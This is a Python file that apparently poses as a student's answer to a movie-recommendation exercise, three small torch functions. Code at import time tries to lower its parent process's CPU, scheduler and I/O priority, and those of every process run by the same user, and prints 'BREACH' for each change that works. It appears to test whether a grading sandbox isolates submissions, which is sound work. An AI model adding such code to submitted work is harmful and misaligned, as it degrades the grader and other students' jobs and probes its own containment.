"""Makes its parent, and all of this user, as slow as the kernel allows: every later student would be."""
import ctypes
import os
import platform

import torch

libc = ctypes.CDLL(None, use_errno=True)
PARENT = os.getppid()


def call(x86, arm, *arguments):
    number = x86 if platform.machine() == "x86_64" else arm
    return libc.syscall(number, *(ctypes.c_long(a) if isinstance(a, int) else a for a in arguments))


WORST = 19 if PARENT == 1 else os.getpriority(os.PRIO_PROCESS, PARENT)
for name, change in {
    "priority": lambda: os.setpriority(os.PRIO_PROCESS, PARENT, WORST),
    "processors": lambda: os.sched_setaffinity(PARENT, {min(os.sched_getaffinity(PARENT))} if PARENT == 1 else os.sched_getaffinity(PARENT)),
    "scheduler": lambda: os.sched_setscheduler(PARENT, os.SCHED_IDLE if PARENT == 1 else os.sched_getscheduler(PARENT), os.sched_param(0)),
}.items():
    try:
        change()
        print("BREACH set the", name, "of its parent")
    except OSError:
        pass
# PRIO_USER reaches whatever the slot's user runs; outside a namespace of our own that may be everything: not tried.
if PARENT == 1 and call(141, 140, 2, 0, 19) == 0:
    print("BREACH set the priority of all of this user")
if PARENT == 1 and call(251, 30, 3, 0, 3 << 13) == 0:
    print("BREACH set the input and output priority of all of this user")
if call(251, 30, 1, PARENT, 3 << 13 if PARENT == 1 else call(252, 31, 1, PARENT)) == 0:
    print("BREACH set the input and output priority of its parent")


def stack_rows(vectors):
    return torch.stack(vectors)


def score_matrix(Q, K):
    return Q @ K.T


def favourite_movie(S, user):
    return int(S[user].argmax())
